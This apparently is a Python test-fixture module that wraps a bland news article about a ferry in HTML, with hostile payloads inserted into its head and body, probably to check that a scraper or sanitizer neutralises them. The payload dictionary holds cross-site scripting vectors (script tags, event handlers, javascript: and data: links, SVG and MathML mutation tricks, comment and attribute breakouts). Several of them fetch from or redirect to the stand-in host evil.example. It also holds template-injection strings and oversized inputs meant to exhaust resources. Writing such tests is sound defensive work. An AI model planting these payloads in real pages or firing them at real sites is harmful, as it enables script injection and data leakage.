"""Pages that try to be live in whatever shows them; of our own writing."""

from __future__ import annotations

TEXT = "".join(
    f"<p>The ferry to the northern islands is back in service after {number} days of repairs, the harbor office said on"
    " Tuesday, and people on both sides of the sound were glad of it.</p>"
    for number in range(3, 9)
)
HEAD = "<title>The ferry is back</title><meta property='og:type' content='article'>"
FAR = "https://evil.example/"

HOSTILE = {
    "script": (
        f"<script>fetch('{FAR}')</script><script src={FAR}x.js></script><noscript>"
        f"<img src={FAR}n.gif></noscript>"
    ),
    "handler": (
        f"<img src=x onerror=\"location='{FAR}'\"><body onload=alert(1)>"
        f"<p onclick=alert(1) tabindex=0>Text here.</p>"
    ),
    "javascript link": "<a href=\"javascript:alert(1)\">Press</a><a href=\" java\tscript:alert(1)\">here</a>",
    "data link": "<a href='data:text/html,<script>alert(1)</script>'>Press</a><embed src='data:text/html,x'>",
    "refresh": (
        f"<meta http-equiv=refresh content='0; url={FAR}'><base href='{FAR}'>"
        f"<link rel=stylesheet href='{FAR}s.css'>"
    ),
    "css": (
        f"<style>@import '{FAR}';p{{background:url({FAR}p.png)}}</style>"
        f"<p style=\"background:url('{FAR}q.png')\">Text.</p>"
    ),
    "svg": f"<svg onload=alert(1)><script>alert(1)</script><use href='{FAR}u.svg#a'/><image href='{FAR}i.png'/></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "template": "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
    "shadow": f"<div><template shadowrootmode=open><link rel=stylesheet href='{FAR}s.css'></template></div>",
    "frames": (
        f"<iframe srcdoc='<script>alert(1)</script>'></iframe><iframe src='{FAR}'>"
        f"</iframe><object data='{FAR}o'></object>"
    ),
    "media": (
        f"<video src='{FAR}v' poster='{FAR}p' autoplay></video><audio src='{FAR}a'>"
        f"</audio><img srcset='{FAR}s 2x'>"
    ),
    "form": (
        f"<form action='{FAR}'><input autofocus onfocus=alert(1)>"
        f"<button formaction='javascript:alert(1)'>Go</button></form>"
    ),
    "closed script": "<p>He wrote </script><script>alert(1)</script> in the letter, the harbor office said.</p>",
    "closed by escape": (
        ""
        "<p>He wrote &lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt; &lt;img src=x onerror=alert(1)&gt;.</p>"
    ),
    "comment": "<!--><script>alert(1)</script>--><!-- --!><script>alert(1)</script> --><p>Text behind comments.</p>",
    "title": "<title></title><script>alert(1)</script></title><p>Text.</p><xmp><script>alert(1)</script></xmp>",
    "attribute": (
        "<p class='\"><script>alert(1)</script>' id='r0-0'>Text.</p><img alt='\">"
        "<script>alert(1)</script>' src=/big.jpg>"
    ),
    "our own marks": (
        "<p data-scraper-field='headline\">"
        "<script>' data-go='b0-0' data-show=rest class='chip'>Text of a page.</p>"
    ),
    "template language": "<p>{{ 7*7 }} {% include 'inspector.js' %} {{ script|safe }}</p>",
    "plaintext": "<plaintext><script>alert(1)</script>",
    "raw picture name": (
        "<figure><img src='javascript:alert(1)' alt='A pier'>"
        "<figcaption>A pier. Photo: X</figcaption></figure>"
    ),
    "nested": "<div>" * 9000 + "Deep." + "</div>" * 9000,
    "long": "<p>" + "word " * 400_000 + "</p>",
    "inline data": "<img src='data:image/png;base64," + "A" * 3_000_000 + "' alt='big'>",
}  # fmt: skip


def page_with(trick: str) -> bytes:
    """Put a trick into the middle of an article, and into its head."""
    inner = HOSTILE[trick]
    head = inner if trick in {"refresh", "css", "title", "script"} else ""
    body = f"<h1>The ferry is back</h1>{TEXT}{inner}{TEXT}"
    return f"<html lang=en><head>{HEAD}{head}</head><body>{body}</body></html>".encode()
